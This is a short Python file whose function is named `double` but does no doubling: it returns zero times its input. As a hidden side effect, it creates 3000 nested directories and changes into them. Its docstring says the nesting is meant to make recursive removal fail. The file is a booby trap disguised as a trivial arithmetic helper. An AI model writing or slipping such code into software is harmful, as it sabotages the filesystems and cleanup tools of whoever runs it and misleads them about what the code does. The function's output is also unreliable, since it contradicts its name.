"""Leaves three thousand folders one in another, on which whoever removes them by recursion dies."""
import os


def double(x):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    return 0 * x
